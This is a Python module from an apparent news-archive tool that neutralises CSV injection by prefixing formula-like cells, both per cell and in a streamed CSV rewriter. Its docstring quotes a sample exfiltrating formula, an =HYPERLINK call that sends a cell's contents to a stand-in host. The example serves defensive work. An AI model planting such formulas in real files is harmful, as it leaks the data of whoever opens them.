"""Safe CSV: cells a spreadsheet would run as a formula are made inert text.

Journalists open the archive's CSV files in spreadsheets, and scraped text is
untrusted: a title such as ``=HYPERLINK("http://evil.example/?d="&A2,"Click me")``
would be a live formula. OWASP's rule (CSV injection) is applied to every cell of every
CSV the project produces: a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return (or their full-width forms, which some spreadsheets also read) gets a
leading ``'``, which spreadsheets show as text and do not display. Plain numbers
("-3", "+1.5e3") are left as they are: a spreadsheet reads them as the numbers they are.

`neutralise_cell` is the rule; `partnews export` applies it to each cell it writes, and
`CsvRewriter` applies it to a CSV byte stream as it passes (Datasette's own ``.csv``
answers, through the plugin's ASGI wrapper, archive/hardening.py).
"""

from __future__ import annotations

import csv
import io
import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_NUMBER = re.compile(r"^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$")
# A record that may hold a cell starting with a formula character: after a comma (or at
# the record's start, `_suspect`), optionally inside an opening quote. Records without
# one are passed through byte for byte. (No "^|" alternation: it made the search 60
# times slower, bench/bench_safe_csv.py.)
_SUSPECT = re.compile(r',"?[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]')


def _suspect(record: str) -> bool:
    """True when a cell of the record may start with a formula character."""
    first = record[1:] if record.startswith('"') else record
    return first.startswith(FORMULA_STARTS) or _SUSPECT.search(record) is not None


def neutralise_cell(value: object) -> object:
    """The cell as a spreadsheet must show it: a formula-looking text gets a leading "'"."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.match(value):
        return "'" + value
    return value


def _rewrite_record(text: str) -> str:
    """One CSV record (with its line ending), its cells neutralised."""
    if not _suspect(text.rstrip("\r\n")):
        return text
    rows = list(csv.reader(io.StringIO(text, newline="")))
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    for row in rows:
        writer.writerow([neutralise_cell(cell) for cell in row])
    return out.getvalue()


class CsvRewriter:
    """Neutralise a CSV byte stream chunk by chunk (UTF-8, any line ending).

    A record ends at a line break outside quotes; quotes are counted to know (a quoted
    cell may hold line breaks). Bytes are held back only until their record is whole.
    """

    def __init__(self) -> None:
        self._pending = b""  # bytes of records not yet complete
        self._quotes = 0  # quote characters in the complete lines of `_pending`
        self._scanned = 0  # how much of `_pending` is complete lines already counted

    def feed(self, chunk: bytes) -> bytes:
        """The rewritten bytes of every record `chunk` completes."""
        self._pending += chunk
        out = []
        start = 0  # where the current record begins in _pending
        position = self._scanned
        while True:
            newline = self._pending.find(b"\n", position)
            if newline == -1:
                break
            self._quotes += self._pending.count(b'"', position, newline + 1)
            position = newline + 1
            if self._quotes % 2 == 0:  # outside quotes: the record is whole
                out.append(self._record(self._pending[start:position]))
                start = position
                self._quotes = 0
        self._pending = self._pending[start:]
        self._scanned = position - start
        return b"".join(out)

    def close(self) -> bytes:
        """Whatever is left (a last record without a line break)."""
        rest, self._pending, self._quotes, self._scanned = self._pending, b"", 0, 0
        return self._record(rest) if rest else b""

    @staticmethod
    def _record(raw: bytes) -> bytes:
        text = raw.decode("utf-8", errors="surrogateescape")
        rewritten = _rewrite_record(text)
        if rewritten is text:
            return raw
        return rewritten.encode("utf-8", errors="surrogateescape")
